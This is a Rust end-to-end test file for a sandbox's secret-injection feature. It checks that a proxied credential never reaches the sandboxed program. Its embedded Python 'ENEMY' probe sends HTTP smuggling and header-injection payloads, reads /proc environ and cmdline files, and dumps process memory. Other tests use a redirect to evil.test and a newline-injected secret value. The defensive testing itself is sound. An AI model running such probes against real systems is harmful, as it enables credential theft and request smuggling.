//! `--secret`: requests reach a host with a value that the program never sees.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use hotcell_end_to_end::{Call, User, everyone, find};

use crate::network::server;

pub const VALUE: &str = "t0p-s3cret/v4lue-0123456789";
const PKI: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../engine/egress/tests/pki");

/// Answers each request with what it had, but for the credentials, whose correctness it tells; below /echo with all headers.
const HOST: &str = r#"
import http.server, json, os, ssl, sys
value, at, pki = sys.argv[1:4]
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get('Content-Length', 0))).decode()
        good = [v == 'Bearer ' + value for v in self.headers.get_all('Authorization', [])]
        told = dict(method=self.command, path=self.path, host=self.headers['Host'], good=good, body=body)
        if self.path.startswith('/v1/echo'): told['headers'] = str(self.headers)
        text = (json.dumps(told) + '\n').encode()
        if self.path.startswith('/v1/repository.git/'): return self.repository(good)
        if self.path.startswith('/v1/registry/'): return self.registry(good)
        self.send_response(302 if self.path == '/v1/away' else 200)
        if self.path == '/v1/away': self.send_header('Location', 'https://evil.test/')
        if self.path.startswith('/v1/echo'): self.send_header('X-Echo', self.headers['Authorization'])
        self.send_header('Content-Length', str(len(text)))
        self.end_headers()
        self.wfile.write(text)
    do_POST = do_DELETE = do_GET
    def repository(self, good):
        # One branch, by git's protocol of plain files, and only with the credential.
        refs = self.path.split('?')[0].endswith('/info/refs')
        text = (b'1' * 40 + b'\trefs/heads/main\n') if refs else b'ref: refs/heads/main\n'
        self.send_response(200 if good == [True] else 401)
        if good != [True]: self.send_header('WWW-Authenticate', 'Basic realm="git"')
        self.send_header('Content-Length', str(len(text)))
        self.end_headers()
        self.wfile.write(text)
    def registry(self, good):
        # One package of each ecosystem, only with the credential.
        kind, text = REGISTRY.get(self.path.split('?')[0][len('/v1/registry/'):], ('text/plain', ''))
        text = text.encode()
        self.send_response(401 if good != [True] else 200 if text else 404)
        self.send_header('Content-Type', kind)
        self.send_header('Content-Length', str(len(text)))
        self.end_headers()
        self.wfile.write(text)
    def log_message(self, *_): pass
REGISTRY = {
    'simple/acme/': ('text/html', '<!DOCTYPE html><html><body><a href="acme-1.0-py3-none-any.whl">acme-1.0-py3-none-any.whl</a></body></html>'),
    'npm/acme': ('application/json', json.dumps({'name': 'acme', 'dist-tags': {'latest': '1.0.0'}, 'versions': {'1.0.0': {
        'name': 'acme', 'version': '1.0.0', 'dist': {'tarball': 'https://npm.test/acme.tgz', 'shasum': '0' * 40}}}})),
    'go/example.test/acme/@v/list': ('text/plain', 'v1.0.0\n'),
    'go/example.test/acme/@v/v1.0.0.info': ('application/json', '{"Version": "v1.0.0"}'),
    'go/example.test/acme/@v/v1.0.0.mod': ('text/plain', 'module example.test/acme\n'),
    'cargo/config.json': ('application/json', '{"dl": "https://cargo.test/dl"}'),
    'cargo/ac/me/acme': ('text/plain', json.dumps({'name': 'acme', 'vers': '1.0.0', 'deps': [], 'cksum': '0' * 64, 'features': {}, 'yanked': False}) + '\n'),
}
server = http.server.ThreadingHTTPServer((at, 0), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(pki + '/host.pem', pki + '/host.key')
server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
print(server.server_port, flush=True)
server.serve_forever()
"#;

/// A TLS server on an address of this host that is not its loopback; it ends with the test.
pub struct Host {
    child: Child,
    pub at: String,
    pub port: String,
}

impl Drop for Host {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub fn host() -> Option<Host> {
    let at = server()?.at.to_string();
    let started = Command::new("/usr/bin/python3")
        .args(["-I", "-c", HOST, VALUE, &at, PKI])
        .stdout(Stdio::piped())
        .spawn();
    let mut child = started.expect("python starts");
    let mut port = String::new();
    BufReader::new(child.stdout.take().expect("a pipe")).read_line(&mut port).expect("a port");
    Some(Host { child, at, port: port.trim().to_owned() })
}

impl Host {
    /// Writes a configuration that defines the secret `gh` for this host, with more keys.
    pub fn configuration(&self, user: &User, more: &str) -> PathBuf {
        user.write("work/root.pem", std::fs::read(Path::new(PKI).join("root.pem")).expect("a root"));
        let text = format!(
            "network = [\"api.test={}:{}\"]\n[secrets.gh]\nsource = \"env:HIDDEN_TOKEN\"\nhost = \"api.test:{}/v1\"\n\
             ca = \"root.pem\"\n{more}",
            self.at, self.port, self.port
        );
        user.write("work/config.toml", text)
    }
}

/// `hotcell WORDS` with the configuration and the value in hotcell's own environment.
pub fn call(user: &User, config: &Path, words: &[&str]) -> Call {
    let (command, rest) = words.split_first().expect("a command");
    let state = user.path("work/state");
    let words = [&[*command, "--config", config.to_str().unwrap(), "--state", state.to_str().unwrap()], rest]
        .concat();
    user.hotcell(words).env("HIDDEN_TOKEN", VALUE)
}

/// Asks for itself, and looks for the value wherever a program can look. Its memory goes to a file on the host.
const ENEMY: &str = r#"
import glob, os, re, socket, urllib.request
base = os.environ['GH_BASE_URL']
def ask(path, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(base + path, headers=headers), timeout=20) as answer:
            print(answer.status, answer.headers, answer.read().decode())
    except OSError as e: print(e, getattr(e, 'headers', ''), getattr(e, 'read', bytes)())
ask('/x', Authorization='Bearer mine', Connection='authorization', Cookie='a=b')
ask('/echo', Range='bytes=0-5', **{'Accept-Encoding': 'gzip', 'X-HTTP-Method-Override': 'DELETE'})
ask('/away')
def raw(text):
    s = socket.create_connection(('127.0.0.1', 888), 20); s.sendall(text); s.shutdown(socket.SHUT_WR)
    out = b''
    while piece := s.recv(65536): out += piece
    print(out)
at = b'Host: 127.0.0.1:888\r\n'
raw(b'TRACE /gh/ HTTP/1.1\r\n' + at + b'\r\n')
raw(b'CONNECT 127.0.0.1:888 HTTP/1.1\r\n\r\n')
raw(b'GET /gh/../echo HTTP/1.1\r\n' + at + b'\r\n')
raw(b'GET http://evil.test/gh/ HTTP/1.1\r\nHost: evil.test\r\n\r\n')
raw(b'POST /gh/x HTTP/1.1\r\n' + at + b'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n')
raw(b'POST /gh/x HTTP/1.1\r\n' + at + b'Content-Length: 5\r\nContent-Length: 0\r\n\r\nabcde')
raw(b'GET /gh/x HTTP/1.1\r\n' + at + b'X: a\r\n b: c\r\n\r\n')
raw(b'GET /gh/x HTTP/1.1\r\n' + at + b'X: a\0\r\n\r\n')
print(dict(os.environ))
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/net/*'):
    try: print(path, open(path, 'rb').read())
    except OSError as e: print(path, e.strerror)
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb') as mem, open('/out/memory', 'wb') as out:
    for line in maps:
        start, end, access = re.match(r'(\w+)-(\w+) (\S+)', line).groups()
        if access.startswith('rw'):
            try: mem.seek(int(start, 16)); out.write(mem.read(int(end, 16) - int(start, 16)))
            except (OSError, OverflowError): pass
"#;

/// All files below a folder that contain the value.
pub fn holding(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(holding(&path));
        } else if std::fs::read(&path)
            .is_ok_and(|bytes| bytes.windows(VALUE.len()).any(|w| w == VALUE.as_bytes()))
        {
            found.push(path);
        }
    }
    found
}

#[test]
fn program_uses_a_secret_that_is_nowhere_inside() {
    let Some(host) = host() else { return };
    everyone(|user| {
        let config = host.configuration(user, "");
        let out = user.make_folder("work/out");
        let show = format!("{}:/out", out.display());
        let python = ["--", "/usr/bin/python3", "-c", ENEMY];
        let words = [
            &["run", "--json", "-v", "--secret", "gh", "--secret-env", "--guard", "off", "--rw", &show],
            &python[..],
        ]
        .concat();
        let ended = call(user, &config, &words).end();
        let outcome = ended.code(0).json();
        let said = outcome["stdout"]["text"].as_str().unwrap_or_default();
        assert!(said.contains(r#""path": "/v1/x""#) && said.contains(r#""good": [true]"#), "{said}");
        assert!(said.contains(&format!(r#""host": "api.test:{}""#, host.port)), "{said}");
        let masked = "*".repeat(VALUE.len());
        assert!(said.contains(&format!("X-Echo: Bearer {masked}")), "{said}");
        assert!(said.matches(&masked).count() >= 2 && !said.contains("X-http-method-override"), "{said}");
        assert!(!said.contains(r#""path": "/echo""#), "{said}");
        assert_eq!(
            (said.matches("HTTP/1.1 400").count(), said.matches("HTTP/1.1 403").count()),
            (5, 3),
            "{said}"
        );
        // Redirects stay the program's: its next request, to a host that is not allowed, has no secret.
        assert!(outcome["denials"].to_string().contains("evil.test:443"), "{outcome:#}");
        let memory = std::fs::metadata(out.join("memory")).map(|m| m.len()).unwrap_or_default();
        assert!(memory > 1 << 20, "{memory}");
        assert!(!ended.text().contains(VALUE) && !ended.stderr.contains(VALUE), "{ended:#?}");
        assert_eq!(holding(user.path("work").parent().expect("the user's folder")), Vec::<PathBuf>::new());
        let counts = &outcome["requests"]["secrets"]["gh"];
        assert_eq!(
            (counts["requests"].as_u64(), counts["denied"].as_u64()),
            (Some(4), Some(1)),
            "{outcome:#}"
        );
    });
}

#[test]
fn rules_deny_and_every_request_is_recorded() {
    let Some(host) = host() else { return };
    if find("curl").is_none() {
        println!("skipped: no curl");
        return;
    }
    everyone(|user| {
        let more =
            "methods = [\"GET\", \"POST\"]\npaths = [\"/v1/a\"]\ndeny = [\"/v1/a/keys\"]\nprojects = true\n";
        let config = host.configuration(user, more);
        let script = "u=http://127.0.0.1:888/gh; for p in '-d x=1 $u/a/b?q=1' $u/a $u/a/k%65ys $u/b '-X DELETE $u/a'; do \
                      eval curl -sS -o /dev/null -w '%{http_code},' $p; done";
        // The project's own file names the secret.
        let project = user.make_folder("work/project");
        user.write("work/project/hotcell.toml", "secrets = [\"gh\"]\n");
        let named = [
            "run",
            "--guard",
            "off",
            "--workspace",
            project.to_str().unwrap(),
            "--",
            "/bin/sh",
            "-c",
            script,
        ];
        let ended = call(user, &config, &named).end();
        ended.code(0).prints("200,200,403,403,403,").says("DELETE /v1/a for the secret gh: methods GET POST");
        let list = call(user, &config, &["runs", "list", "--json"]).end().json();
        let id = list["runs"][0]["id"].as_str().unwrap_or_default().to_owned();
        let shown = call(user, &config, &["runs", "show", &id, "--network", "--json"]).end();
        let rows = shown.code(0).json();
        let told: Vec<String> = rows["requests"]
            .as_array()
            .expect("rows")
            .iter()
            .map(|row| {
                let text = |key: &str| row[key].as_str().unwrap_or_default();
                format!(
                    "{} {} {} {} {}",
                    text("method"),
                    text("path"),
                    row["status"],
                    text("ending"),
                    text("rule")
                )
            })
            .collect();
        assert_eq!(
            told,
            [
                "POST /v1/a/b?q=… 200 answered paths /v1/a",
                "GET /v1/a 200 answered paths /v1/a",
                "GET /v1/a/k%65ys null denied deny /v1/a/keys",
                "GET /v1/b null denied no entry of paths",
                "DELETE /v1/a null denied methods GET POST",
            ],
            "{rows:#}"
        );
        assert_eq!(rows["secrets"]["gh"]["denied"], 3);
        let file = user.path("work/run.har");
        call(user, &config, &["runs", "show", &id, "--har", file.to_str().unwrap()]).end().code(0);
        let archive = std::fs::read_to_string(&file).expect("an archive");
        assert!(archive.contains("\"_secret\": \"gh\"") && !archive.contains(VALUE), "{archive}");
        let shown = call(user, &config, &["runs", "show", &id, "--network"]).end();
        assert!(shown.code(0).text().contains("gh: 5 requests, 3 denied, 0 failed"), "{shown:#?}");
    });
}

#[test]
fn wrong_secrets_end_with_one_line_and_nothing_is_sent() {
    everyone(|user| {
        let config = user.write(
            "work/config.toml",
            "[secrets.own]\nsource = \"env:HIDDEN_TOKEN\"\nhost = \"api.test\"\n\
             [secrets.lost]\nsource = \"file:/nowhere/token\"\nhost = \"api.test\"\n\
             [secrets.root]\nsource = \"env:HIDDEN_TOKEN\"\nhost = \"api.test\"\nca = \"none.pem\"\n",
        );
        for (secret, value, word) in [
            ("x=ghp_0123456789@api.test", VALUE, "a value itself is not accepted"),
            ("x=env:UNSET_TOKEN@api.test", VALUE, "the environment variable UNSET_TOKEN is not set"),
            ("x=env:HIDDEN_TOKEN@http://api.test", VALUE, "only sent over TLS"),
            ("x=env:HIDDEN_TOKEN", VALUE, "no host is named"),
            ("own", "", "is empty"),
            ("own", "0123456789\nX: y", "control character"),
            ("own", "0123", "shorter than 8 bytes"),
            ("onw", VALUE, "did you mean own?"),
            ("lost", VALUE, "/nowhere/token cannot be used"),
            ("root", VALUE, "none.pem"),
            ("x=fd:99@api.test", VALUE, "file descriptor 99 cannot be read"),
            ("x=exec:gh@api.test", VALUE, "exec:/PATH"),
            ("x=exec:/nowhere/gh@api.test", VALUE, "/nowhere/gh cannot be started"),
            ("x=exec:/bin/false@api.test", VALUE, "/bin/false failed"),
        ] {
            let ended = call(user, &config, &["run", "--secret", secret, "--", "/bin/true"])
                .env("HIDDEN_TOKEN", value)
                .end();
            ended.code(125).says_one_line(word);
            assert!(!ended.stderr.contains("0123456789"), "{ended:#?}");
        }
        let strict = ["run", "--profile", "strict", "--secret", "own", "--", "/bin/true"];
        call(user, &config, &strict).end().code(125).says("the secret own needs a loopback");
        let project = user.make_folder("work/project");
        for (text, word) in [
            ("secrets = [\"own\"]\n", "does not offer to projects"),
            ("[secrets.gh]\nsource = \"env:HIDDEN_TOKEN\"\nhost = \"evil.test\"\n", "not for a project"),
        ] {
            user.write("work/project/hotcell.toml", text);
            let words = ["run", "--workspace", project.to_str().unwrap(), "--", "/bin/true"];
            call(user, &config, &words).end().code(125).says(word);
        }
    });
}

#[test]
fn value_that_is_about_to_expire_is_fetched_anew() {
    let Some(host) = host() else { return };
    everyone(|user| {
        // The first answer is another value, and ends within the margin.
        let asked = user.path("work/asked");
        let program = user.write_program(
            "work/token",
            &format!(
                "#!/bin/sh\nif [ -e {0} ]; then v={VALUE}; else v=0-old-value-0; fi\necho x >>{0}\n\
                 echo \"{{\\\"value\\\": \\\"$v\\\", \\\"expires_at\\\": $(($(date +%s) + 25))}}\"\n",
                asked.display()
            ),
        );
        let config = host.configuration(user, "");
        let text = std::fs::read_to_string(&config).expect("a configuration");
        let source = format!("exec:{}", program.display());
        let config = user.write("work/config.toml", text.replace("env:HIDDEN_TOKEN", &source));
        let ask = "import urllib.request as u; print(u.urlopen('http://127.0.0.1:888/gh/x').read().decode())";
        let words = ["run", "--guard", "off", "--secret", "gh", "--", "/usr/bin/python3", "-c", ask];
        let ended = call(user, &config, &words).end();
        assert!(ended.code(0).text().contains(r#""good": [true]"#), "{ended:#?}");
        assert_eq!(std::fs::read_to_string(&asked).expect("it was asked").lines().count(), 2);
    });
}
